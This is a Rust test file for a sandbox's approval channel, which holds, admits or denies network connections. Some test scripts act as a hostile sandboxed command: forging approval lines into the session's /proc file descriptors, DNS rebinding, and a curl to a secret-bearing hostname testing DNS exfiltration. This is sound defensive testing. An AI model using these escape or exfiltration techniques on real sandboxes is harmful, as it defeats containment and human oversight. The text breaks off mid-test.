//! `sandbox session --approval channel` (#45): a connection the policy
//! refuses is held while the harness is asked; "once" admits that one,
//! "session" every later one to the same destination, "deny" and silence
//! refuse it; nothing the command writes answers a question. Each session
//! runs in a private network and mount namespace with a local origin
//! (`svc.example.com` is 93.184.215.34 there, an address the namespace's
//! loopback accepts through a `local` route without it being configured
//! on an interface: neither special-range nor the host's own, so admitting
//! the name needs no second question): nothing leaves the machine.
//! Root and nobody.
#![cfg(target_os = "linux")]

use std::io::{BufRead, BufReader, Write};
use std::path::PathBuf;
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::Receiver;
use std::time::Duration;

use sandbox_tests::sandbox_bin;
use serde_json::{json, Value};

use crate::private_net::LOOPBACK_UP;

use crate::session_ns::{
    events_of, kill_pids, namespace_dir, next_event, unshare, users, EVENT_WAIT, HOSTS, SVC_IP,
};

/// A curl through the run's proxy (the variables the egress sets) to the
/// origin, printing `<body> <status>` on one line.
const CURL: &str = "curl -s -m 120 -w ' %{http_code}\\n' http://svc.example.com:8080/";

struct Harness {
    child: Child,
    stdin: Option<ChildStdin>,
    events: Receiver<Value>,
    dir: tempfile::TempDir,
    /// The `hello` event, when [`Harness::open_with`] read it.
    hello: Value,
}

impl Harness {
    /// `sandbox session --approval channel FLAGS` in a private network and
    /// mount namespace, with an HTTP origin on 127.0.0.1:8080 (each
    /// request's path a line of `origin.log`) and `svc.example.com` in
    /// `/etc/hosts`; as nobody when `nobody`.
    fn open(nobody: bool, flags: &[&str]) -> Self {
        Self::open_with(
            nobody,
            r#"exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel --no-network "$@""#,
            flags,
            true,
        )
    }

    /// As [`Harness::open_with`] (checking the hello), with `env` added to
    /// the namespace's environment.
    fn open_with_env(nobody: bool, tail: &str, env: &[(&str, &str)]) -> Self {
        let (child, dir) = Self::spawn_env(nobody, tail, &[], Stdio::piped(), env);
        Self::of(child, dir, true)
    }

    /// As [`Harness::open`], the namespace's last step `tail` (`$WRAP` is
    /// the `setpriv` to nobody or nothing); `hello` when `tail` is a session
    /// whose hello to check.
    fn open_with(nobody: bool, tail: &str, flags: &[&str], hello: bool) -> Self {
        let (child, dir) = Self::spawn(nobody, tail, flags, Stdio::piped());
        Self::of(child, dir, hello)
    }

    /// The harness of `child` (the namespace, in `dir`); `hello` when its
    /// session's hello is to be read and checked.
    fn of(mut child: Child, dir: tempfile::TempDir, hello: bool) -> Self {
        let stdin = child.stdin.take();
        let events = events_of(child.stdout.take().unwrap());
        let mut h = Harness {
            child,
            stdin,
            events,
            dir,
            hello: Value::Null,
        };
        if hello {
            let hello = h.next();
            assert_eq!(hello["event"], "hello", "{hello}");
            assert_eq!(hello["approval"], "channel", "{hello}");
            h.hello = hello;
        }
        h
    }

    /// The namespaces, the origins and `tail`, its stdout `stdout`.
    fn spawn(
        nobody: bool,
        tail: &str,
        flags: &[&str],
        stdout: Stdio,
    ) -> (Child, tempfile::TempDir) {
        Self::spawn_env(nobody, tail, flags, stdout, &[])
    }

    /// As [`Harness::spawn`], with `env` added to its environment.
    fn spawn_env(
        nobody: bool,
        tail: &str,
        flags: &[&str],
        stdout: Stdio,
        env: &[(&str, &str)],
    ) -> (Child, tempfile::TempDir) {
        let (dir, d, wrap) = namespace_dir(nobody);
        let setup = format!(
            r#"set -e
mount --bind "$D/hosts" /etc/hosts
{LOOPBACK_UP}
ip route add local {SVC_IP}/32 dev lo
python3 -c '
import http.server, sys, threading
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[1], "a") as log: log.write(self.path + "\n")
        body = b"hello"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 8080), H)
svc = http.server.ThreadingHTTPServer((sys.argv[3], 8080), H)
threading.Thread(target=svc.serve_forever, daemon=True).start()
open(sys.argv[2], "w").close()
s.serve_forever()
' "$D/origin.log" "$D/listening" {SVC_IP} > /dev/null 2>&1 < /dev/null &
echo $! > "$D/origin.pid"
python3 -c '
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def reply(self):
        with open(sys.argv[1] + "/origin.log", "a") as log: log.write(self.command + " " + self.path + "\n")
        body = b"secure"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    do_GET = do_POST = reply
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 8443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1] + "/leaf.pem", sys.argv[1] + "/leaf.key")
s.socket = ctx.wrap_socket(s.socket, server_side=True)
open(sys.argv[1] + "/tls-listening", "w").close()
s.serve_forever()
' "$D" > /dev/null 2>&1 < /dev/null &
echo $! > "$D/tls-origin.pid"
for i in $(seq 200); do [ -e "$D/listening" ] && [ -e "$D/tls-listening" ] && break; sleep 0.05; done
{tail}
"#
        );
        let python = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../clients/python");
        let args: Vec<&str> = std::iter::once("sh").chain(flags.iter().copied()).collect();
        let child = unshare(
            &setup,
            &args,
            wrap,
            &d,
            &[("PYTHONPATH", python.as_os_str())],
            env,
        )
        .stdout(stdout)
        .spawn()
        .expect("unshare (util-linux) makes the namespaces");
        (child, dir)
    }

    fn path(&self) -> PathBuf {
        std::fs::canonicalize(self.dir.path()).unwrap()
    }

    /// The paths the origin served, in order.
    fn served(&self) -> Vec<String> {
        std::fs::read_to_string(self.path().join("origin.log"))
            .unwrap_or_default()
            .lines()
            .map(str::to_owned)
            .collect()
    }

    fn send(&mut self, request: &Value) {
        let stdin = self.stdin.as_mut().unwrap();
        stdin.write_all(format!("{request}\n").as_bytes()).unwrap();
        stdin.flush().unwrap();
    }

    #[track_caller]
    /// The next event but the live `refused` ones (each refusal is in its
    /// command's exit event too).
    fn next(&self) -> Value {
        loop {
            let event = next_event(&self.events, EVENT_WAIT);
            if event["event"] != "refused" {
                return event;
            }
        }
    }

    /// Starts a shell script with its output captured; returns after its
    /// `started` event.
    #[track_caller]
    fn start(&mut self, id: &str, script: &str) {
        self.send(
            &json!({"id": id, "op": "run", "argv": ["/bin/sh", "-c", script], "output": true}),
        );
        let started = self.next();
        assert_eq!(
            (started["id"].as_str(), started["event"].as_str()),
            (Some(id), Some("started")),
            "{started}"
        );
    }

    /// The next event, which must be a question about svc.example.com:8080
    /// during run `id` (by name alone: not looked up yet); its permission
    /// id.
    #[track_caller]
    fn question(&self, id: &str) -> String {
        name_question(self, id, "svc.example.com")
    }

    fn approve(&mut self, permission: &str, answer: &str) {
        self.send(&json!({"op": "approve", "permission": permission, "answer": answer}));
    }

    #[track_caller]
    fn exit(&self, id: &str) -> Value {
        let exit = self.next();
        assert_eq!(
            (exit["id"].as_str(), exit["event"].as_str()),
            (Some(id), Some("exit")),
            "{exit}"
        );
        exit
    }

    fn close(mut self) {
        self.send(&json!({"op": "close"}));
        let closed = self.next();
        assert_eq!(closed["event"], "closed", "{closed}");
        drop(self.stdin.take());
        assert_eq!(self.child.wait().unwrap().code(), Some(0));
    }
}

impl Drop for Harness {
    fn drop(&mut self) {
        kill_pids(
            &self.path(),
            &[
                "origin.pid",
                "tls-origin.pid",
                "private-origin.pid",
                "dns.pid",
            ],
        );
        if std::thread::panicking() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// The answers of an exit event: `(answer, by)` in order.
fn answers(exit: &Value) -> Vec<(String, String)> {
    exit["approvals"]
        .as_array()
        .unwrap_or_else(|| panic!("no approvals in {exit}"))
        .iter()
        .map(|a| {
            (
                a["answer"].as_str().unwrap().to_owned(),
                a["by"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

/// With the network off, a connection is held and asked about: "once"
/// admits it (the origin serves it) and the next one is asked again; "deny"
/// refuses it (403, recorded, the origin never sees it). "session" admits
/// it and, unasked, the later ones of this and the next command.
#[test]
fn once_session_and_deny_decide_held_connections() {
    for nobody in users() {
        let mut h = Harness::open(nobody, &[]);
        h.start("1", &format!("{CURL}once; {CURL}denied"));
        let p = h.question("1");
        h.approve(&p, "once");
        let p2 = h.question("1");
        assert_ne!(p, p2, "each question has its own id");
        h.approve(&p2, "deny");
        let exit = h.exit("1");
        let out = exit["stdout"].as_str().unwrap();
        assert!(out.contains("hello 200"), "{exit}");
        assert!(out.contains(" 403"), "the denied one is refused: {exit}");
        assert_eq!(
            answers(&exit),
            [
                ("once".into(), "channel".into()),
                ("deny".into(), "channel".into())
            ],
            "{exit}"
        );
        assert!(
            exit["refusals"].to_string().contains("svc.example.com"),
            "the denial is recorded: {exit}"
        );
        assert_eq!(
            h.served(),
            ["/once"],
            "only the admitted one reached the origin"
        );

        h.start("2", &format!("{CURL}s1; {CURL}s2"));
        let p = h.question("2");
        h.approve(&p, "session");
        let exit = h.exit("2");
        let out = exit["stdout"].as_str().unwrap();
        assert_eq!(out.matches("hello 200").count(), 2, "{exit}");
        assert_eq!(
            answers(&exit),
            [
                ("session".into(), "channel".into()),
                ("session".into(), "session grant".into())
            ],
            "{exit}"
        );
        // The next command is not asked.
        h.start("3", &format!("{CURL}s3"));
        let exit = h.exit("3");
        assert!(
            exit["stdout"].as_str().unwrap().contains("hello 200"),
            "{exit}"
        );
        assert_eq!(h.served(), ["/once", "/s1", "/s2", "/s3"]);
        h.close();
    }
}

/// F6: however many connections one `session` answer admits, the exit
/// event books them as one entry with their count (300 connections: the
/// answered question and one `session grant`, count 299), not one entry
/// each; the twin: the question the harness answered is listed as it was.
/// Root and nobody.
#[test]
fn session_granted_connections_are_booked_once_with_their_count() {
    for nobody in users() {
        let mut h = Harness::open(nobody, &[]);
        h.start(
            "1",
            "curl -s -m 120 -o /dev/null -w '%{http_code}\\n' 'http://svc.example.com:8080/f[1-300]' | sort | uniq -c",
        );
        let p = h.question("1");
        h.approve(&p, "session");
        let exit = h.exit("1");
        // What a failure shows: the event's first 2000 bytes.
        let shown = format!("{:.2000}", exit.to_string());
        assert!(
            exit["stdout"].as_str().unwrap().contains("300 200"),
            "{shown}"
        );
        assert_eq!(
            answers(&exit),
            [
                ("session".into(), "channel".into()),
                ("session".into(), "session grant".into())
            ],
            "{shown}"
        );
        assert_eq!(exit["approvals"][0]["permission"], p.as_str(), "{shown}");
        assert_eq!(exit["approvals"][1]["count"], 299, "{shown}");
        assert!(exit.to_string().len() < 8192, "{shown}");
        assert_eq!(h.served().len(), 300);
        h.close();
    }
}

/// Silence: the held connection is refused when the hold limit passes
/// (`--approval-timeout`), recorded as "timeout"; a late answer admits
/// nothing. A malformed answer denies at once. Twin: the same session
/// admits a connection answered "once".
#[test]
fn silence_and_malformed_answers_deny() {
    for nobody in users() {
        let mut h = Harness::open(nobody, &["--approval-timeout", "1"]);
        h.start("t", &format!("{CURL}silence"));
        let p = h.question("t");
        let exit = h.exit("t");
        assert!(exit["stdout"].as_str().unwrap().contains(" 403"), "{exit}");
        assert_eq!(
            answers(&exit),
            [("deny".into(), "timeout".into())],
            "{exit}"
        );
        h.approve(&p, "once");
        let late = h.next();
        assert_eq!(late["event"], "error", "{late}");

        h.start("m", &format!("{CURL}malformed"));
        let p = h.question("m");
        h.approve(&p, "yes please");
        let err = h.next();
        assert_eq!(err["event"], "error", "{err}");
        let exit = h.exit("m");
        assert!(exit["stdout"].as_str().unwrap().contains(" 403"), "{exit}");
        assert_eq!(
            answers(&exit),
            [("deny".into(), "malformed answer".into())],
            "{exit}"
        );
        assert!(h.served().is_empty(), "{:?}", h.served());
        h.close();
    }
}

/// The command cannot answer its own question: while its connection is
/// held it writes approve lines (for guessed ids) to every descriptor it
/// has, to the session's /proc/PID/fd/0 and fd/1 (the channel's path), and
/// a forged permission event on its stdout. The harness stays silent: the
/// connection is refused at the hold limit, the origin never sees it, and
/// the channel carries only the session's events. Twin (same script, the
/// harness answers "once"): admitted.
#[test]
fn the_command_cannot_answer_its_own_question() {
    for nobody in users() {
        for harness_answers in [true, false] {
            let mut h = Harness::open(nobody, &["--approval-timeout", "5"]);
            let session = h.child.id();
            let forge = r#"{"op":"approve","permission":"PID","answer":"session"}"#;
            let script = format!(
                r#"{CURL}held &
sleep 0.5
echo "fds $(ls /proc/self/fd | grep -vx "${{SANDBOX_NEST_FD:-none}}" | tr '\n' ' ')"
for n in 0 1 2 3 4 5 6 7 8 9; do
  for p in p$n p0 p1 p00000000000000$n; do
    line=$(echo '{forge}' | sed "s/PID/$p/")
    for fd in /proc/self/fd/*; do echo "$line" > "$fd" 2>/dev/null; done
    for t in /proc/{session}/fd/0 /proc/{session}/fd/1 /proc/{session}/fd/3 /proc/{session}/fd/4; do
      echo "$line" > "$t" 2>/dev/null && echo "wrote $t"
    done
  done
done
echo '{{"event":"permission","permission":"p1","id":"x","kind":"connect","host":"svc.example.com","port":8080}}'
wait"#
            );
            h.start("a", &script);
            let p = h.question("a");
            if harness_answers {
                h.approve(&p, "once");
            }
            let exit = h.exit("a");
            let out = exit["stdout"].as_str().unwrap();
            assert!(!out.contains("wrote /proc"), "{exit}");
            // The command holds fds 0-2 only (3 is ls's own directory; the
            // nested-run capability named by SANDBOX_NEST_FD, a socket to
            // the runner, is not the channel).
            let fds = out.lines().find(|l| l.starts_with("fds ")).unwrap();
            assert_eq!(fds.trim_end(), "fds 0 1 2 3", "{exit}");
            if harness_answers {
                assert!(out.contains("hello 200"), "{exit}");
                assert_eq!(answers(&exit), [("once".into(), "channel".into())]);
                assert_eq!(h.served(), ["/held"]);
            } else {
                assert!(out.contains(" 403"), "{exit}");
                assert_eq!(
                    answers(&exit),
                    [("deny".into(), "timeout".into())],
                    "{exit}"
                );
                assert!(h.served().is_empty(), "{:?}", h.served());
            }
            h.close();
        }
    }
}

/// The Python client (clients/python/sandbox_session.py) answers questions
/// through its `on_permission` callback: "once" for the first, "deny" for
/// the second (twin), and a callback that raises denies.
#[test]
fn the_python_client_answers_permissions() {
    let script = r#"
import json, os
from sandbox_session import Session
asked = []
def ask(p):
    asked.append(p)
    if len(asked) == 3:
        raise RuntimeError("a broken callback")
    return "once" if len(asked) == 1 else "deny"
curl = "curl -s -m 120 -w ' %{http_code}\n' http://svc.example.com:8080/"
with Session(args=["--backend", "auto", "--on-unsupported", "error", "--no-network",
                   "--approval", "channel"], sandbox=os.environ["SANDBOX"], on_permission=ask) as s:
    r = s.run(["/bin/sh", "-c", curl + "a; " + curl + "b; " + curl + "c"], output=True)
    assert [p["host"] for p in asked] == ["svc.example.com"] * 3, asked
    assert r["stdout"].count("hello 200") == 1 and r["stdout"].count(" 403") == 2, r
    assert [(a["answer"], a["by"]) for a in r["approvals"]] == [
        ("once", "channel"), ("deny", "channel"), ("deny", "channel")], r
print(json.dumps({"event": "client ok"}))
"#;
    for nobody in users() {
        let h = Harness::open_with(
            nobody,
            r#"exec $WRAP /usr/bin/python3 -c "$1""#,
            &[script],
            false,
        );
        let ok = h.next();
        assert_eq!(ok["event"], "client ok", "{ok}");
        assert_eq!(h.served(), ["/a"]);
    }
}

/// An intercepted request no request rule admits is held and asked about
/// (kind "request", with the rule that would admit it): "once" admits it
/// (the origin serves it), "deny" refuses it (403); "session" admits the
/// same rule's later requests unasked. The listed request passes unasked.
#[test]
fn a_request_no_rule_admits_is_asked_about() {
    for nobody in users() {
        let mut h = Harness::open_with(
            nobody,
            r#"exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel --upstream-ca "$D/ca.pem" --allow-request 'GET https://pkgs.example.com:8443/simple/**'"#,
            &[],
            true,
        );
        let u = "https://pkgs.example.com:8443";
        let c = "curl -sS -m 120 -w ' %{http_code}\\n'";
        h.start(
            "r",
            &format!("{c} {u}/simple/listed; {c} -X POST -d x {u}/up; {c} -X POST -d x {u}/up; {c} -X POST -d x {u}/other; {c} -X POST -d x {u}/other"),
        );
        let rule = |path: &str| format!("POST https://pkgs.example.com:8443/{path}");
        for (path, answer) in [("up", "once"), ("up", "deny"), ("other", "session")] {
            let p = h.next();
            assert_eq!(p["event"], "permission", "{p}");
            assert_eq!(p["kind"], "request", "{p}");
            assert_eq!(p["method"], "POST", "{p}");
            assert_eq!(p["url"], format!("{u}/{path}"), "{p}");
            assert_eq!(p["rule"], rule(path), "{p}");
            let id = p["permission"].as_str().unwrap().to_owned();
            h.approve(&id, answer);
        }
        let exit = h.exit("r");
        let out = exit["stdout"].as_str().unwrap();
        assert_eq!(out.matches("secure 200").count(), 4, "{exit}");
        assert_eq!(out.matches(" 403").count(), 1, "{exit}");
        assert_eq!(
            answers(&exit),
            [
                ("once".into(), "channel".into()),
                ("deny".into(), "channel".into()),
                ("session".into(), "channel".into()),
                ("session".into(), "session grant".into())
            ],
            "{exit}"
        );
        assert_eq!(
            h.served(),
            [
                "GET /simple/listed",
                "POST /up",
                "POST /other",
                "POST /other"
            ]
        );
        h.close();
    }
}

/// `curl` through the run's proxy to `http://HOST:8080PATH`, printing
/// `<body> <status>`.
fn curl_to(host: &str, path: &str) -> String {
    format!("curl -s -m 120 -w ' %{{http_code}}\\n' http://{host}:8080{path}")
}

/// The namespace's tail for [`an_approved_name_reaches_only_the_addresses_shown`]:
/// a second origin on 10.77.0.1:8080 (a private address of the namespace's
/// loopback; it logs `private PATH`), `flip.example.com` at 10.77.0.1 and
/// `far.example.com` at a public address (nothing listens there, and no
/// route leaves the namespace), then the session.
const PRIVATE_ORIGIN: &str = r#"ip addr add 10.77.0.1/32 dev lo
printf '10.77.0.1 flip.example.com\n93.184.215.14 far.example.com\n' >> "$D/hosts"
python3 -c '
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[1], "a") as log: log.write("private " + self.path + "\n")
        body = b"private"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("10.77.0.1", 8080), H)
open(sys.argv[2], "w").close()
s.serve_forever()
' "$D/origin.log" "$D/private-listening" > /dev/null 2>&1 < /dev/null &
echo $! > "$D/private-origin.pid"
for i in $(seq 200); do [ -e "$D/private-listening" ] && break; sleep 0.05; done
exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel --no-network "$@""#;

/// The next event, which must be a first question about `host:8080`
/// during run `id`: the name alone, not looked up (`addresses` and `local`
/// null); its permission id.
#[track_caller]
fn name_question(h: &Harness, id: &str, host: &str) -> String {
    let p = h.next();
    assert_eq!(p["event"], "permission", "{p}");
    assert_eq!(p["id"], id, "{p}");
    assert_eq!(p["kind"], "connect", "{p}");
    assert_eq!(p["host"], host, "{p}");
    assert_eq!(p["port"], 8080, "{p}");
    assert_eq!(p["addresses"], Value::Null, "{p}");
    assert_eq!(p["local"], Value::Null, "{p}");
    assert_eq!(p["resolution"], false, "{p}");
    p["permission"].as_str().unwrap().to_owned()
}

/// The next event, which must be the second question about `host:8080`
/// during run `id`: the admitted name resolved to `addresses`, local; its
/// permission id.
#[track_caller]
fn question_about(h: &Harness, id: &str, host: &str, addresses: &[&str]) -> String {
    let p = h.next();
    assert_eq!(p["event"], "permission", "{p}");
    assert_eq!(p["id"], id, "{p}");
    assert_eq!(p["kind"], "connect", "{p}");
    assert_eq!(p["host"], host, "{p}");
    assert_eq!(p["port"], 8080, "{p}");
    assert_eq!(p["addresses"], json!(addresses), "{p}");
    assert_eq!(p["local"], true, "{p}");
    assert_eq!(p["resolution"], true, "{p}");
    p["permission"].as_str().unwrap().to_owned()
}

/// DNS rebinding through an approval: the command controls what
/// `flip.example.com` resolves to. The first question names it alone (not
/// looked up); admitted ("session"), it resolves to 10.77.0.1, a private
/// address, so the harness is asked again with it (local); the name is then
/// re-pointed at 127.0.0.1 (where the host's loopback origin listens on the
/// same port) before the harness answers "session": the connection still
/// reaches 10.77.0.1 only. The next command's connection, now resolving to
/// 127.0.0.1, is admitted by name (the grant) but its address is not
/// covered: asked again (127.0.0.1, local) and denied; twin: with the name
/// back at 10.77.0.1 both grants admit it unasked. A name resolving to a
/// public address, admitted once, is not asked about again (it is not
/// local; nothing listens there and no route leaves the namespace: 502).
/// The hello says the network is "ask".
#[test]
fn an_approved_name_reaches_only_the_addresses_shown() {
    for nobody in users() {
        let mut h = Harness::open_with(nobody, PRIVATE_ORIGIN, &[], true);
        assert_eq!(h.hello["policy"]["network"], "ask", "{}", h.hello);
        let hosts = |h: &Harness, flip: &str| {
            std::fs::write(
                h.path().join("hosts"),
                format!("{HOSTS}{flip} flip.example.com\n93.184.215.14 far.example.com\n"),
            )
            .unwrap()
        };
        h.start("1", &curl_to("flip.example.com", "/pinned"));
        let p = name_question(&h, "1", "flip.example.com");
        h.approve(&p, "session");
        let p = question_about(&h, "1", "flip.example.com", &["10.77.0.1"]);
        hosts(&h, "127.0.0.1");
        h.approve(&p, "session");
        let exit = h.exit("1");
        assert_eq!(exit["stdout"], "private 200\n", "{exit}");
        assert_eq!(exit["approvals"][0]["addresses"], Value::Null);
        assert_eq!(exit["approvals"][1]["addresses"], json!(["10.77.0.1"]));
        assert_eq!(
            answers(&exit),
            [
                ("session".into(), "channel".into()),
                ("session".into(), "channel".into())
            ]
        );

        h.start("2", &curl_to("flip.example.com", "/rebound"));
        let p = question_about(&h, "2", "flip.example.com", &["127.0.0.1"]);
        h.approve(&p, "deny");
        let exit = h.exit("2");
        assert!(
            exit["stdout"].as_str().unwrap().ends_with(" 403\n"),
            "{exit}"
        );
        assert_eq!(
            answers(&exit),
            [
                ("session".into(), "session grant".into()),
                ("deny".into(), "channel".into())
            ]
        );

        hosts(&h, "10.77.0.1");
        h.start("3", &curl_to("flip.example.com", "/granted"));
        let exit = h.exit("3");
        assert_eq!(exit["stdout"], "private 200\n", "{exit}");
        assert_eq!(
            answers(&exit),
            [
                ("session".into(), "session grant".into()),
                ("session".into(), "session grant".into())
            ]
        );

        h.start("4", &curl_to("far.example.com", "/far"));
        let p = name_question(&h, "4", "far.example.com");
        h.approve(&p, "once");
        let exit = h.exit("4");
        assert!(
            exit["stdout"].as_str().unwrap().ends_with(" 502\n"),
            "{exit}"
        );
        assert_eq!(answers(&exit), [("once".into(), "channel".into())]);

        assert_eq!(
            h.served(),
            ["private /pinned", "private /granted"],
            "nothing reached the loopback origin"
        );
        h.close();
    }
}

/// The namespace's tail for [`a_denied_name_is_never_queried`]: the host's
/// resolver (`/etc/resolv.conf`, which the session's proxy uses) is a DNS
/// server on the namespace's 127.0.0.1:53 that logs each query (`TYPE
/// NAME` in `dns.log`) and knows `ok.example.com` (the origin's address);
/// then the session, its commands writing `$D/out`.
const LOGGING_RESOLVER: &str = r#"printf 'nameserver 127.0.0.1\noptions attempts:1 timeout:30\n' > "$D/resolv.conf"
mount --bind "$D/resolv.conf" /etc/resolv.conf
python3 -c '
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 53))
open(sys.argv[2], "w").close()
while True:
    q, peer = s.recvfrom(512)
    i, labels = 12, []
    while q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace"))
        i += 1 + q[i]
    qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
    name = ".".join(labels).lower()
    with open(sys.argv[1], "a") as log: log.write("%d %s\n" % (qtype, name))
    if name != "ok.example.com":
        flags, answers, rr = 0x8183, 0, b""
    elif qtype == 1:
        flags, answers = 0x8180, 1
        rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(sys.argv[3])
    else:
        flags, answers, rr = 0x8180, 0, b""
    s.sendto(q[:2] + struct.pack(">HHHHH", flags, 1, answers, 0, 0) + q[12:i + 5] + rr, peer)
' "$D/dns.log" "$D/dns-listening" "$SVC_IP" > /dev/null 2>&1 < /dev/null &
echo $! > "$D/dns.pid"
for i in $(seq 200); do [ -e "$D/dns-listening" ] && break; sleep 0.05; done
mkdir -m 777 "$D/out"
exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel --no-network -w "$D/out""#;

/// No DNS leak through the approval channel: under `--no-network
/// --approval channel` a name the harness denies is never queried at the
/// host's resolver (the namespace's, which logs every query), whatever it
/// encodes; nor is the name the command looks up itself (the run's own
/// resolver answers it). Positive control: the approved name is queried
/// once (one A query), and the connection reaches the origin at its
/// non-local address without a second question.
#[test]
fn a_denied_name_is_never_queried() {
    for nobody in users() {
        let mut h = Harness::open_with_env(nobody, LOGGING_RESOLVER, &[("SVC_IP", SVC_IP)]);
        h.start(
            "1",
            &format!(
                "{}; getent hosts s3cr3t-direct.leak.example.com; {}",
                curl_to("s3cr3t-4242.leak.example.com", "/leak"),
                curl_to("ok.example.com", "/ok")
            ),
        );
        let p = name_question(&h, "1", "s3cr3t-4242.leak.example.com");
        h.approve(&p, "deny");
        let p = name_question(&h, "1", "ok.example.com");
        h.approve(&p, "once");
        let exit = h.exit("1");
        let out = exit["stdout"].as_str().unwrap();
        assert!(out.contains(" 403\n"), "{exit}");
        assert!(out.ends_with("hello 200\n"), "{exit}");
        assert_eq!(
            answers(&exit),
            [
                ("deny".into(), "channel".into()),
                ("once".into(), "channel".into())
            ]
        );
        assert_eq!(h.served(), ["/ok"]);
        let log = std::fs::read_to_string(h.path().join("dns.log")).unwrap_or_default();
        assert!(!log.contains("s3cr3t"), "a denied name was queried: {log}");
        assert_eq!(
            log.lines().filter(|l| *l == "1 ok.example.com").count(),
            1,
            "the approved name, one A query: {log}"
        );
        h.close();
    }
}

/// The hello's network: "ask" under `--no-network --approval channel`
/// (every TCP connection through the proxy is asked about), "off" without
/// approvals (twin).
#[test]
fn the_hello_says_the_network_is_asked_for() {
    let state = tempfile::tempdir().unwrap();
    for (approval, network) in [("channel", "ask"), ("none", "off")] {
        let mut child = Command::new(sandbox_bin())
            .args(["session", "--backend", "auto", "--on-unsupported", "error"])
            .args(["--no-network", "--approval", approval])
            .env("XDG_STATE_HOME", state.path())
            .env_remove("SANDBOX_CONFIG")
            .env("XDG_CONFIG_HOME", "/nonexistent/sandbox-tests-config")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let hello: Value = serde_json::from_str(&line).unwrap();
        assert_eq!(hello["event"], "hello", "{hello}");
        assert_eq!(hello["approval"], approval, "{hello}");
        assert_eq!(hello["policy"]["network"], network, "{hello}");
        assert_eq!(child.wait().unwrap().code(), Some(0));
    }
}

/// A harness that stops reading the session's stdout cannot hold a
/// connection past the approval timeout: its channel is full (a one-page
/// pipe the test filled) when the command's connection is asked about; the
/// connection is refused at the timeout (2 s) and the command ends on its
/// own (its result file says 403), while the harness still reads nothing.
/// Reading again, the harness gets the question and the exit event (deny,
/// by timeout). Twin: a harness that reads answers "once": admitted.
#[test]
fn a_harness_that_stops_reading_holds_nothing_past_the_timeout() {
    use std::io::Read;
    use std::os::fd::AsRawFd;
    for nobody in users() {
        for reads in [true, false] {
            let (read, write) = std::io::pipe().unwrap();
            // SAFETY: fcntl on a pipe descriptor we own; one page (the
            // least a pipe holds), set while the pipe is empty.
            let set = unsafe { libc::fcntl(read.as_raw_fd(), libc::F_SETPIPE_SZ, 4096) };
            assert_eq!(set, 4096, "{}", std::io::Error::last_os_error());
            let fill = write.try_clone().unwrap();
            let tail = r#"mkdir -m 777 "$D/out"
exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel --approval-timeout 2 --no-network -w "$D/out""#;
            let (mut child, dir) = Harness::spawn(nobody, tail, &[], Stdio::from(write));
            let mut read = read;
            // One line, byte by byte: nothing beyond it is taken from the pipe.
            let line = |read: &mut std::io::PipeReader| -> Value {
                let mut bytes = Vec::new();
                let mut b = [0u8; 1];
                while read.read(&mut b).unwrap() == 1 && b[0] != b'\n' {
                    bytes.push(b[0]);
                }
                serde_json::from_slice(&bytes).unwrap()
            };
            let hello = line(&mut read);
            assert_eq!(hello["event"], "hello", "{hello}");
            let d = std::fs::canonicalize(dir.path()).unwrap();
            let script = format!(
                "while [ ! -e {d}/go ]; do sleep 0.05; done; {CURL}stuck > {d}/out/result; echo done >> {d}/out/result",
                d = d.display()
            );
            let mut stdin = child.stdin.take().unwrap();
            writeln!(
                stdin,
                "{}",
                json!({"id": "s", "op": "run", "argv": ["/bin/sh", "-c", script]})
            )
            .unwrap();
            let started = line(&mut read);
            assert_eq!(started["event"], "started", "{started}");
            if !reads {
                // Fill the pipe: the session's next write blocks.
                let mut queued: libc::c_int = 0;
                // SAFETY: FIONREAD writes one int through the pointer.
                assert_eq!(
                    unsafe { libc::ioctl(read.as_raw_fd(), libc::FIONREAD, &mut queued) },
                    0
                );
                let room = 4096 - usize::try_from(queued).unwrap();
                let head = r#"{"event":"filler","pad":""#;
                let pad = "x".repeat(room - head.len() - 3);
                let filler = format!("{head}{pad}\"}}\n");
                assert_eq!(filler.len(), room);
                (&fill).write_all(filler.as_bytes()).unwrap();
            }
            std::fs::write(d.join("go"), "").unwrap();
            let mut h = Harness {
                child,
                stdin: Some(stdin),
                events: std::sync::mpsc::channel().1,
                dir,
                hello,
            };
            if reads {
                h.events = events_of(read);
                let p = h.question("s");
                h.approve(&p, "once");
            } else {
                // The command ends while nobody reads the channel.
                let result = d.join("out/result");
                let deadline = std::time::Instant::now() + EVENT_WAIT;
                while !std::fs::read_to_string(&result)
                    .unwrap_or_default()
                    .contains("done")
                {
                    assert!(
                        std::time::Instant::now() < deadline,
                        "the command did not end while the harness read nothing"
                    );
                    std::thread::sleep(Duration::from_millis(50));
                }
                let out = std::fs::read_to_string(&result).unwrap();
